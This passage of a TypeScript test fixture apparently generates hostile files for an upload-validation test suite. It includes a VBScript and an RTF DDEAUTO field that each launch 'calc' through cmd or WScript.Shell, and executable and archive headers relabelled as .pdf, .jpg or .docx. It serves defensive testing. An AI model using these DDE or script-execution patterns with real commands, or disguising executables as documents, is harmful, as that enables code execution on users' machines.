  'a script of the other system': 'Set x = CreateObject("WScript.Shell")\r\nx.Run "calc"\r\n',
  'a text with fields': String.raw`{\rtf1{\field{\*\fldinst DDEAUTO cmd "/k calc"}}{\object\objemb{\*\objclass Package}}}`,
  'a program': PROGRAM,
  'another program': Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(600)]),
  'a class': Buffer.concat([Buffer.from([0xca, 0xfe, 0xba, 0xbe]), Buffer.alloc(600)]),
  'a plain archive': archive([{ name: 'a.txt', content: 'x' }]),
  'an archive of programs': archive([{ name: 'META-INF/MANIFEST.MF', content: 'Main-Class: X' }]),
  'a packed file': Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 0x4b, 4, 0, 0x43, 0xbe, 0xb7, 0xe8, 1, 0, 0, 0]),
  'an archive of another kind': Buffer.concat([Buffer.from('Rar!\u001a\u0007\u0001\0', 'latin1'), Buffer.alloc(600)]),
  'an archive of a third kind': Buffer.concat([Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c]), Buffer.alloc(600)]),
  'a shortcut': Buffer.concat([Buffer.from([0x4c, 0, 0, 0, 1, 0x14, 2, 0]), Buffer.alloc(600)]),
  'a film': Buffer.concat([Buffer.from('FWS\u0009', 'latin1'), Buffer.alloc(600)]),
}
const otherFiles = (): HostileFile[] =>
  Object.entries(ELSE).flatMap(([what, content]) =>
    ['a.pdf', 'a.jpg', 'a.docx'].map((name) => ({
      title: `${what} called ${name}`,
      name,
      make: () => (typeof content === 'string' ? Buffer.from(content) : content),
    })),
  )

export const hostileFiles = (): HostileFile[] => [...pdfFiles(), ...officeFiles(), ...oldFiles(), ...otherFiles()]
